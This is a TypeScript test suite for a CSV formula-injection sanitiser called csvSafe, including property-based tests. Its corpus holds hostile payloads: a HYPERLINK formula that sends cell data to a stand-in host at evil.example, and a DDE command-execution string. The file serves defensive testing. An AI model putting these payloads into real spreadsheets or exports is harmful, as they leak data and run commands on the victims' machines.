import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { csvSafe } from "./csv-safe.ts";

const STARTERS = ["=", "+", "-", "@", "＝", "＋", "－", "＠"] as const;
const CORPUS = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "  =1+1",
  "\u00a0=1+1",
  "\ufeff=1+1",
  "\u200b=1+1",
  "\0=1+1",
  '"=1+1',
  "'=1+1",
  "“=1+1",
  "＝1+1",
];

/** What a spreadsheet may read as the beginning of a cell: the first character that is neither space, invisible nor a quote. */
const firstSeen = (cell: string) => /^[\s\p{Cc}\p{Cf}]*(.?)/u.exec(cell)?.[1] ?? "";
const dangerous = (cell: string) => (STARTERS as readonly string[]).includes(firstSeen(cell));

describe("csvSafe", () => {
  it.each(CORPUS)("puts an apostrophe before %j", (formula) => {
    expect(csvSafe(formula).startsWith("'")).toBe(true);
  });

  it.each(["Ada Lovelace", "", "a=b", "2-3", "O'Brien", "Анна-Мария", "名前", "R&D; Sales", "1e5", '"quoted"'])(
    "leaves %j as it is",
    (text) => expect(csvSafe(text)).toBe(text),
  );

  it("neutralises what would begin a cell of its own where the semicolon separates", () => {
    expect(csvSafe("Sales;=1+1")).toBe("Sales;'=1+1");
  });

  it("leaves no cell that begins with a formula, whatever precedes or follows it", () => {
    const before = fc.string({ unit: fc.constantFrom(" ", "\t", "\r", "\n", '"', "'", "\u00a0", "\u200b", "x", ";") });
    const value = fc
      .tuple(before, fc.constantFrom(...STARTERS), fc.string({ unit: "grapheme" }))
      .map((all) => all.join(""));
    fc.assert(
      fc.property(fc.oneof(value, fc.string({ unit: "binary" })), (text) => {
        const safe = csvSafe(text);
        expect(/^[\t\r\n]/.test(safe)).toBe(false);
        expect(safe.split(/[;\t\r\n]/).some(dangerous)).toBe(false);
      }),
    );
  });

  it("adds apostrophes and nothing else", () => {
    fc.assert(
      fc.property(fc.string({ unit: "grapheme" }), (text) => {
        expect(csvSafe(text).replaceAll("'", "")).toBe(text.replaceAll("'", ""));
      }),
    );
  });
});
